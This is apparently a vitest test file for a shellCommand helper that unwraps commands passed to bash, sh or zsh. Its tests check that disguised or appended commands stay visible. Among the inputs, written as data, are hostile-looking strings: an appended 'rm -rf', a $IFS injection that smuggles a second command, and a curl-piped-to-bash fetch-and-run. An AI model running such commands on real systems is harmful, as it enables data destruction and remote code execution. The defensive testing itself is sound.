import fc from "fast-check";
import { expect, test } from "vitest";
import { shellCommand } from "./shell-command.ts";

test("a command that a shell is given is shown without the shell", () => {
  expect(shellCommand("/bin/bash -lc 'ls -l'")).toBe("ls -l");
  expect(shellCommand('sh -c "echo \\"$HOME\\""')).toBe('echo "$HOME"');
  expect(shellCommand("/bin/zsh -lc 'echo '\\''hi'\\'''")).toBe("echo 'hi'");
});

test("nothing is lost: what comes after or before stays in sight", () => {
  for (const whole of ["bash -lc 'ls' && rm -rf x", "FOO=1 bash -c 'ls'", "bash -lc 'ls' 'rm'", "ls"]) {
    expect(shellCommand(whole)).toBe(whole);
  }
});

test("only a shell is left out, not what ends like one", () => {
  for (const whole of [
    "touch$IFS/tmp/x;sh -c 'npm test'",
    "curl$IFSexample.test|bash;bash -lc 'npm test'",
    "/tmp/evil.sh -c 'npm test'",
    "/tmp/bin/bash -c 'npm test'",
    "./sh -c 'npm test'",
    "push -c 'npm test'",
  ]) {
    expect(shellCommand(whole)).toBe(whole);
  }
});

test("quoting and unquoting gives the same command", () => {
  fc.assert(
    fc.property(fc.string({ unit: "binary" }), (command) => {
      const quoted = `/bin/bash -lc '${command.replaceAll("'", "'\\''")}'`;
      expect(shellCommand(quoted)).toBe(command);
    }),
  );
});
